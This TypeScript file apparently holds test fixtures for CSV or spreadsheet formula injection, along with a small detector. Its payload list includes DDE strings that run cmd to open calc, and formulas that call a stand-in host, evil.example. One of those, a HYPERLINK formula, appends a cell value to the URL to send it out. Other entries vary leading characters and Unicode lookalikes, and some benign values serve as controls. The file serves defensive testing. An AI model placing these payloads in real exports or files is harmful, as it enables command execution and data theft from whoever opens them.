const commands = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
] as const

const before = [
  '',
  ' ',
  '\t',
  '\n',
  '\r\n',
  '"',
  '",',
  ';',
  "'",
  '|',
  '\u00a0',
  '\u1680',
  '\u2003',
  '\u202f',
  '\u205f',
  '\u3000',
  '\u200b',
  '\ufeff',
  '\u202e',
] as const

/** Some eighty ways to make a spreadsheet calculate, none twice, and what must stay as it is. */
export const payloads: readonly string[] = [
  ...new Set([
    ...commands,
    ...before.flatMap((lead) => [`${lead}=1+1`, `${lead}@x`, `${lead}-x`]),
    'a,=1+1',
    'a;=1+1',
    'a\n=1+1',
    'a"=1+1"',
    'a\t=1+1',
    '-12.500',
    '12',
    '007',
    'plain',
    'a, -b',
    'بطاقة "الدفع"، 24',
    'line\r\nline',
  ]),
]

/** As a careless reader sees it: what begins a cell, or what would if a quote or a separator were lost. */
export function isFormula(cell: string): boolean {
  if (/^-?\d+(\.\d+)?$/.test(cell) || cell.startsWith("'")) return false
  return /^[\t\r\n]/.test(cell) || /(^|["',;|\t\r\n])\s*[=+\-@＝＋－＠]/.test(cell)
}
